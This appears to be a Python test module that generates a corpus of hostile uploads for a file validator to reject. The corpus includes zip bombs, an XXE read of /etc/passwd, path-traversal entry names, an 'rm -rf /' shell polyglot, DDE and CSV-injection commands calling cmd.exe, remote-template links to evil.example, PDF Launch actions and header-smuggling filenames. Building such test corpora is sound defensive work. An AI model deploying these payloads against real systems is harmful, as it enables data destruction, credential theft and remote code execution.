"""Two hundred hostile files, made the same each time: bombs, slips, polyglots, macros, actions, and names.

Each must be refused, for whatever reason a reader finds first; what is held is that none gets through, and what it costs.
"""

import struct
import zlib
from collections.abc import Iterator, Mapping
from functools import cache
from typing import NamedTuple

from chalicelib.domain.files import kinds
from tests.files import samples
from tests.files.samples import office_parts, open_document_parts, pdf, relationships, zipped


class Hostile(NamedTuple):
    """A hostile file as it would be sent."""

    name: str
    """What is hostile about it."""
    data: bytes
    media_type: str
    file_name: str


MEGABYTE = 1_000_000
OFFICE = (kinds.DOCX, kinds.XLSX, kinds.PPTX)
OPEN = (kinds.ODT, kinds.ODS)


def _named(media_type: str) -> str:
    return f"file.{samples.SUFFIX[media_type]}"


def _office(name: str, media_type: str, **parts: bytes) -> Hostile:
    return Hostile(
        f"{name} in {samples.SUFFIX[media_type]}",
        zipped(office_parts(media_type) | parts),
        media_type,
        _named(media_type),
    )


def _raw_entry(
    name: bytes, body: bytes, *, declared: int | None = None, method: int = 8, at: int = 0, flags: int = 0
) -> tuple[bytes, bytes]:
    """Return local entry and directory entry, which may say another size than is true."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(body) + packer.flush() if method == 8 else body
    size = len(body) if declared is None else declared
    crc = zlib.crc32(body)
    local = (
        struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, flags, method, 0, 33, crc, len(packed), size, len(name), 0)
        + name
        + packed
    )
    central = (
        struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            20,
            20,
            flags,
            method,
            0,
            33,
            crc,
            len(packed),
            size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            at,
        )
        + name
    )
    return local, central


def raw_archive(
    *entries: tuple[bytes, bytes],
    before: bytes = b"",
    declared: Mapping[bytes, int] | None = None,
    method: int = 8,
    flags: int = 0,
) -> bytes:
    """Return an archive put together by hand, with names and bodies as they are, and sizes as they are said to be."""
    body, directory = before, b""
    for name, content in entries:
        said = (declared or {}).get(name)
        local, central = _raw_entry(name, content, at=len(body), declared=said, method=method, flags=flags)
        body, directory = body + local, directory + central
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return body + directory + end


def _docx_entries() -> list[tuple[bytes, bytes]]:
    return [(name.encode(), content) for name, content in office_parts(kinds.DOCX).items()]


def _bombs() -> Iterator[Hostile]:
    zeros = bytes(50 * MEGABYTE)
    elements = b"".join(b"<b a='%x'/>" % (n * 2_654_435_761 % 2**20) for n in range(1_300_000))
    for media_type in OFFICE:
        yield _office("50 MB of zeros", media_type, **{"media/picture.png": zeros})
        yield _office("many parts of zeros", media_type, **{f"media/{n}.bin": bytes(9 * MEGABYTE) for n in range(9)})
        yield _office("a million elements", media_type, **{"custom/part.xml": b"<a>" + elements + b"</a>"})
        yield _office("deep elements", media_type, **{"custom/part.xml": b"<a>" * 200_000 + b"</a>" * 200_000})
    for media_type in OPEN:
        yield Hostile(
            "zeros in a picture",
            zipped(open_document_parts(media_type) | {"Pictures/a.png": zeros}),
            media_type,
            _named(media_type),
        )
    entity = b'<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb">' + b"".join(
        b'<!ENTITY %c "%s">' % (99 + n, b"&%c;" % (98 + n) * 10) for n in range(9)
    )
    for media_type in OFFICE:
        yield _office("entities of entities", media_type, **{"custom/part.xml": entity + b"]><a>&k;</a>"})
        outside = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
        yield _office("an entity outside", media_type, **{"custom/part.xml": outside})
    for count in (4_001, 30_000, 65_535):
        yield Hostile(
            f"{count} entries",
            raw_archive(*_docx_entries(), *((b"p/%d.xml" % n, b"") for n in range(count - 3))),
            kinds.DOCX,
            "file.docx",
        )
    for said, what in ((1_000, "more"), (3_900_000, "less")):
        picture = (b"word/media/a.png", bytes(3 * MEGABYTE))
        lying = raw_archive(*_docx_entries(), picture, declared={picture[0]: said})
        yield Hostile(f"an entry that gives {what} than it declares", lying, kinds.DOCX, "file.docx")
    yield Hostile("an entry in an entry", _overlapping(), kinds.DOCX, "file.docx")
    yield Hostile("many names for one entry", _one_kernel(3_000), kinds.DOCX, "file.docx")
    for depth in (2, 3, 6):
        yield _office(f"documents in documents, {depth} deep", kinds.DOCX, **{"word/embeddings/a.docx": _nested(depth)})
        yield _office(
            f"archives in archives, {depth} deep", kinds.DOCX, **{"word/embeddings/a.zip": _nested_archive(depth)}
        )
    yield _office(
        "an archive that names itself",
        kinds.XLSX,
        **{"xl/embeddings/a.xlsx": zipped(office_parts(kinds.XLSX) | {"xl/embeddings/a.xlsx": _nested(1)})},
    )
    for count in (1, 10, 500):
        streams = [samples.stream(bytes(50 * MEGABYTE // count + MEGABYTE)) for _ in range(count)][:count]
        yield Hostile(f"{count} streams of zeros", pdf(*streams), kinds.PDF, "file.pdf")
    yield Hostile(
        "strings without end",
        pdf(page=b"BT " + b"(" * 5 * MEGABYTE + b" Tj ET", catalog=b"/AA << >>"),
        kinds.PDF,
        "file.pdf",
    )
    yield Hostile(
        "objects without end",
        b"%PDF-1.7\n" + b"1 0 obj << /OpenAction 1 0 R " * 200_000 + b"\n%%EOF\n",
        kinds.PDF,
        "file.pdf",
    )
    yield Hostile(
        "streams without end", b"%PDF-1.7\n" + b"1 0 obj << >> stream\n" * 200_000 + b"\nx", kinds.PDF, "file.pdf"
    )
    yield Hostile(
        "a picture of 40,000,000,000 points", samples.png(width=200_000, height=200_000), kinds.PNG, "file.png"
    )
    yield Hostile(
        "a photograph of 4,000,000,000 points", samples.jpeg(width=65_535, height=65_535), kinds.JPEG, "file.jpg"
    )


def _overlapping() -> bytes:
    """An entry whose bytes are another entry (David Fifield, "A better zip bomb")."""
    inner, _ = _raw_entry(b"word/b.xml", b"<b/>")
    entries = [*_docx_entries(), (b"word/a.xml", inner)]
    whole = raw_archive(*entries, method=0)
    at = whole.index(inner)
    _, central = _raw_entry(b"word/b.xml", b"<b/>", at=at)
    directory_at, end = struct.unpack_from("<I", whole, len(whole) - 6)[0], len(whole) - 22
    directory, count = whole[directory_at:end] + central, len(entries) + 1
    return (
        whole[:directory_at]
        + directory
        + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(directory), directory_at, 0)
    )


def _one_kernel(count: int) -> bytes:
    """Many entries of the directory that all name the same bytes."""
    whole = raw_archive(*_docx_entries(), (b"word/kernel", bytes(MEGABYTE)))
    directory_at, end = struct.unpack_from("<I", whole, len(whole) - 6)[0], len(whole) - 22
    directory = whole[directory_at:end]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    directory += b"".join(last.replace(b"kernel", b"k%05d" % n) for n in range(count))
    return (
        whole[:directory_at]
        + directory
        + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + 4, count + 4, len(directory), directory_at, 0)
    )


def _nested(depth: int) -> bytes:
    inner = zipped(office_parts(kinds.DOCX))
    for _ in range(depth):
        inner = zipped(office_parts(kinds.DOCX) | {"word/embeddings/a.docx": inner})
    return inner


def _nested_archive(depth: int) -> bytes:
    inner = zipped({"zeros": bytes(MEGABYTE)})
    for _ in range(depth):
        inner = zipped({f"{n}.zip": inner for n in range(16)})
    return inner


SLIPS = (
    b"../evil.xml", b"../../etc/passwd", b"word/../../evil.xml", b"/etc/passwd", b"//host/share", b"C:/evil.xml", b"c:evil.xml",
    b"..\\evil.xml", b"word\\evil.xml", b"word/a\x00.xml", b"word/a\n.xml", b"word/./a.xml", b"word//a.xml", b"",
    b"word/\x7f.xml", b"WORD/DOCUMENT.XML", b"word/document.xml", "word/\u202egnp.xml".encode(), b"\xff\xfe.xml", b"..",
)  # fmt: skip


def _slips() -> Iterator[Hostile]:
    for name in SLIPS:
        flags = 0x800 if max(name, default=0) > 127 else 0
        data = raw_archive(*_docx_entries(), (name, b"<a/>"), flags=flags)
        yield Hostile(f"an entry called {name!r}", data, kinds.DOCX, "file.docx")
    for flags, what in ((0x1, "encrypted"), (0x2001, "hidden directory")):
        yield Hostile(f"{what} entries", raw_archive(*_docx_entries(), flags=flags), kinds.DOCX, "file.docx")
    for method in (1, 9, 12, 14, 93, 99):
        data = raw_archive(*_docx_entries()).replace(struct.pack("<H", 8), struct.pack("<H", method))
        yield Hostile(f"method {method}", data, kinds.DOCX, "file.docx")


POLYGLOTS = (
    ("GIF and page", b"GIF89a/*<script>alert(1)</script>*/=1;"),
    ("page", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    ("page after blanks", b"\n\n   <html><body onload=alert(1)>"),
    ("picture that runs", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("svg", b"<svg onload=alert(1)>"),
    ("program for Windows", b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00"),
    ("program for Linux", b"\x7fELF\x02\x01\x01" + bytes(100)),
    ("old document", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    ("rar", b"Rar!\x1a\x07\x01\x00" + bytes(100)),
    ("shell script", b"#!/bin/sh\nrm -rf /\n\x00"),
)  # fmt: skip


def _polyglots() -> Iterator[Hostile]:
    for name, data in POLYGLOTS:
        for media_type in (kinds.PDF, kinds.PNG, kinds.DOCX):
            yield Hostile(f"{name} called {samples.SUFFIX[media_type]}", data, media_type, _named(media_type))
        if b"<" in data or b"\x00" in data:
            yield Hostile(f"{name} called csv", data, kinds.CSV, "file.csv")
    archive = zipped({"evil.html": b"<script>1</script>"})
    document = zipped(office_parts(kinds.DOCX))
    yield Hostile("a PDF with an archive behind it", pdf() + archive, kinds.PDF, "file.pdf")
    yield Hostile("a PDF with an archive in it", pdf(samples.stream(archive, packed=False)), kinds.PDF, "file.pdf")
    yield Hostile(
        "an archive that begins as a PDF",
        raw_archive((b"%PDF-1.7", b"%PDF-1.7"), *_docx_entries(), method=0),
        kinds.DOCX,
        "file.docx",
    )
    yield Hostile("a PDF after something else", b"GIF89a" + pdf(), kinds.PDF, "file.pdf")
    yield Hostile(
        "a document with something before it", raw_archive(*_docx_entries(), before=b"MZ"), kinds.DOCX, "file.docx"
    )
    yield Hostile("a document with something behind it", document + b"<script>1</script>", kinds.DOCX, "file.docx")
    yield Hostile("a document with an archive's comment", document[:-2] + b"\x05\x00hello", kinds.DOCX, "file.docx")
    yield Hostile("a picture with an archive behind it", samples.png(after=archive), kinds.PNG, "file.png")
    yield Hostile(
        "a picture with an archive in it", samples.png(samples.chunk(b"juNk", archive)), kinds.PNG, "file.png"
    )
    yield Hostile("a picture with a page behind it", samples.png(after=b"<script>1</script>"), kinds.PNG, "file.png")
    yield Hostile(
        "a picture with a page in it",
        samples.png(samples.chunk(b"tEXt", b"a\x00<script>1</script>")),
        kinds.PNG,
        "file.png",
    )
    yield Hostile("a photograph with an archive behind it", samples.jpeg(after=archive), kinds.JPEG, "file.jpg")
    yield Hostile(
        "a photograph with a page in its comment",
        samples.jpeg(samples.segment(0xFE, b"<html><script>")),
        kinds.JPEG,
        "file.jpg",
    )
    for ours, other in (
        (kinds.DOCX, kinds.XLSX),
        (kinds.XLSX, kinds.DOCX),
        (kinds.ODT, kinds.ODS),
        (kinds.PPTX, kinds.DOCX),
    ):
        whole = samples.honest()[ours]
        yield Hostile(f"{samples.SUFFIX[ours]} called {samples.SUFFIX[other]}", whole, other, _named(other))
        yield Hostile(f"{samples.SUFFIX[ours]} with another extension", whole, ours, "file.pdf")


def _macros() -> Iterator[Hostile]:
    for media_type, folder in ((kinds.DOCX, "word"), (kinds.XLSX, "xl"), (kinds.PPTX, "ppt")):
        yield _office("macros", media_type, **{f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
        yield _office(
            "macros under another name",
            media_type,
            **{f"{folder}/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
        )
        enabled = samples.content_types(media_type, "application/vnd.ms-word.document.macroEnabled.main+xml")
        yield _office("a macro document renamed", media_type, **{"[Content_Types].xml": enabled})
        yield _office("an OLE object", media_type, **{f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})
        yield _office("a program", media_type, **{f"{folder}/media/setup.exe": b"MZ\x90"})
        yield _office("a control", media_type, **{f"{folder}/activeX/activeX1.xml": b"<ax/>"})
        yield _office("buttons that run", media_type, **{"customUI/customUI14.xml": b"<customUI/>"})
        rels = f"{folder}/_rels/settings.xml.rels"
        for kind, target in (
            ("attachedTemplate", "https://evil.example/t.dotm"),
            ("image", "\\\\evil\\share\\a.png"),
            ("oleObject", "https://evil.example/a"),
            ("frame", "https://evil.example/"),
            ("hyperlink", "file:///c:/evil.exe"),
            ("hyperlink", "javascript:alert(1)"),
        ):
            yield _office(f"{kind} at {target[:10]}", media_type, **{rels: relationships((kind, target, True))})
    for field in (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        "DDE excel a b",
        "INCLUDETEXT https://evil.example/a",
        "INCLUDEPICTURE \\\\\\\\evil\\\\a.png",
    ):
        halves = f"<w:p><w:r><w:instrText>{field[:2]}</w:instrText></w:r><w:r><w:instrText>{field[2:]}</w:instrText></w:r></w:p>"
        yield _office(
            f"the field {field[:12]} in halves", kinds.DOCX, **{"word/document.xml": samples.document(halves)}
        )
        simple = samples.document(f'<w:p><w:fldSimple w:instr=" {field} "/></w:p>')
        yield _office(f"the simple field {field[:12]}", kinds.DOCX, **{"word/header1.xml": simple})
    yield _office(
        "a DDE link", kinds.XLSX, **{"xl/links/link1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
    )
    yield _office("linked workbooks", kinds.XLSX, **{"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
    yield _office("a data connection", kinds.XLSX, **{"xl/connections.xml": b"<connections/>"})
    yield _office("a macro sheet", kinds.XLSX, **{"xl/macrosheets/sheet1.xml": b"<xm/>"})
    for media_type in OPEN:
        for name, parts in (
            ("Basic/Standard/Module1.xml", b"<m/>"),
            ("Scripts/python/a.py", b"import os"),
            ("Object 1/content.xml", b"<o/>"),
            ("ObjectReplacements/Object 1", b"x"),
        ):
            yield Hostile(
                f"{name} in {samples.SUFFIX[media_type]}",
                zipped(open_document_parts(media_type) | {name: parts}),
                media_type,
                _named(media_type),
            )
        for body in (
            '<script:event-listener script:event-name="dom:load"/>',
            '<office:dde-source office:dde-application="cmd"/>',
            '<draw:image xlink:href="https://evil.example/a.png"/>',
            "<draw:plugin/>",
            '<text:a xlink:href="javascript:alert(1)">x</text:a>',
        ):
            yield Hostile(
                f"{body[:24]} in {samples.SUFFIX[media_type]}",
                zipped(open_document_parts(media_type, body)),
                media_type,
                _named(media_type),
            )
    for text in ("=cmd|' /C calc'!A0", "a,=DDE|server!x", "+cmd|'/c'!A1", "@SUM|a!b"):
        yield Hostile(f"the cell {text}", f"x\r\n{text}\r\n".encode(), kinds.CSV, "file.csv")


ACTIONS = (
    b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", b"<< /S /J#61vaScript /JS 9 0 R >>", b"<< /S /Launch /F (cmd.exe) >>",
    b"<< /S /L#61unch /Win << /F (cmd.exe) >> >>", b"<< /Names << /EmbeddedFiles 9 0 R >> >>", b"<< /Type /EmbeddedFile >>",
    b"<< /Subtype /FileAttachment /FS 9 0 R >>", b"<< /AcroForm << /XFA 9 0 R >> >>", b"<< /S /SubmitForm /F (http://x) >>",
    b"<< /S /ImportData /F (x) >>", b"<< /S /GoToE /T << >> >>", b"<< /S /GoToR /F (\\\\\\\\evil\\\\a) >>", b"<< /Subtype /RichMedia >>",
    b"<< /S /Rendition >>", b"<< /AA << /O 9 0 R >> >>", b"<< /Encrypt 9 0 R >>", b"<< /OpenAction << /S /URI /URI (http://x) >> >>",
)  # fmt: skip


def _actions() -> Iterator[Hostile]:
    for action in ACTIONS:
        yield Hostile(f"the action {action.decode()}", pdf(action), kinds.PDF, "file.pdf")
        yield Hostile(
            f"packed, the action {action.decode()}", pdf(samples.object_stream(b"<< >>", action)), kinds.PDF, "file.pdf"
        )
    unreadable = samples.stream(b"20 0 <</S/JavaScript>>").replace(
        b"/Filter /FlateDecode", b"/Filter [/ASCIIHexDecode /FlateDecode] /N 1 /First 5"
    )
    yield Hostile("objects packed twice", pdf(unreadable), kinds.PDF, "file.pdf")
    yield Hostile(
        "an opening that is another object",
        pdf(b"<< /S /URI /URI (http://x) >>", catalog=b"/OpenAction 5 0 R"),
        kinds.PDF,
        "file.pdf",
    )
    yield Hostile("a PDF without an end", pdf(end=b""), kinds.PDF, "file.pdf")


NAMES = (
    "a\u202efdp.exe.docx", "a\r\nSet-Cookie: x=1.docx", "../../etc/passwd.docx", "..\\evil.docx", "x" * 1_000 + ".docx", "a\x00.docx",
    "a.docx\u200b", "con.docx", 'a";filename="b.docx', "a%2e%2e.docx", "a\u2028b.docx", " a.docx", "a.docx.", ".docx", "a", "C:a.docx",
    "a\ud800.docx", "文" * 90 + ".docx", "a\x1b[31m.docx", "a.exe", "a.docm", "a\u2066.docx",
)  # fmt: skip


def _names() -> Iterator[Hostile]:
    data = samples.honest()[kinds.DOCX]
    for name in NAMES:
        yield Hostile(f"the name {name[:24]!r}", data, kinds.DOCX, name)


@cache
def hostile_files(*, bombs: bool = True) -> tuple[Hostile, ...]:
    """Return every hostile file; bombs take some seconds to make."""
    rest = (*_slips(), *_polyglots(), *_macros(), *_actions(), *_names())
    return (*_bombs(), *rest) if bombs else rest
